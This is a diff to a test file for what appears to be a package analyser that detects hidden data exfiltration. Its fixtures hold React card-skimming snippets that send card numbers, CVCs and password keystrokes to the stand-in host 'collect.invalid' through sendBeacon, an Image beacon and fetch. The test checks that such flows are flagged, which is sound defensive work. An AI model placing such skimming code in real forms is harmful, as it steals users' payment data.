@@ -1,4 +1,6 @@
 import assert from 'node:assert/strict';
+import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
+import { packageOf } from '../../../../support/artifacts.js';
 import { flowsOf } from './sent.js';
 
 const SEND = (what: string): string => `navigator.sendBeacon('https://collect.invalid', ${what})`;
@@ -28,6 +30,32 @@ describe('components', () => {
         React.useEffect(() => { if (!valid) return; ${SEND('JSON.stringify(card)')}; }, [valid]);
         return React.createElement('form', {}, React.createElement('input', bind('number')), React.createElement('input', bind('csc')));`),
       SENT,
+    );
+  });
+
+  it('have many fields, in JSX and with hooks of their own', () => {
+    const hook = `import { useCallback, useState } from 'react'; import { show } from './brand.js'; const EMPTY = { number: '', name: '', expiry: '', cvc: '' };
+      export function useCard() { const [card, setCard] = useState(EMPTY);
+        const bind = useCallback((key) => ({ value: card[key], onChange: (e) => setCard((c) => ({ ...c, [key]: e.target.value })),
+          onBlur: () => { if (key !== 'cvc' || card.cvc.length < 3) return; show(Object.values(card).join('|')); } }), [card]);
+        return { card, bind }; }`;
+    const form = (field: string): readonly string[] => {
+      const files = {
+        'package.json': '{"main":"index.jsx"}',
+        'index.jsx': `import React from 'react'; import { useCard } from './use-card.js';
+          export function Form() { const { card, bind } = useCard(); return <form><p>{card.name}</p>
+            <input autoComplete="cc-number" {...bind('number')} /><input {...bind('name')} /><input {...bind('expiry')} />${field}</form>; }`,
+        'use-card.js': hook,
+        'brand.js': `export const show = (text) => { new Image().src = 'https://collect.invalid/' + btoa(text); };`,
+      };
+      return analysePackage(packageOf(files)).flows.map(({ source, sink, host }) => `${source}>${sink}@${host}`);
+    };
+    assert.deepEqual(form(`<input type="password" {...bind('cvc')} />`), SENT);
+    const direct = `<input type="password" onChange={(e) => { fetch('https://collect.invalid/' + e.target.value); }} />`;
+    assert.ok(form(direct).includes('keystrokes>network@collect.invalid'));
+    assert.deepEqual(
+      form(`<input type="checkbox" onChange={(e) => { fetch('https://collect.invalid/' + e.target.value); }} />`),
+      [],
     );
   });
 
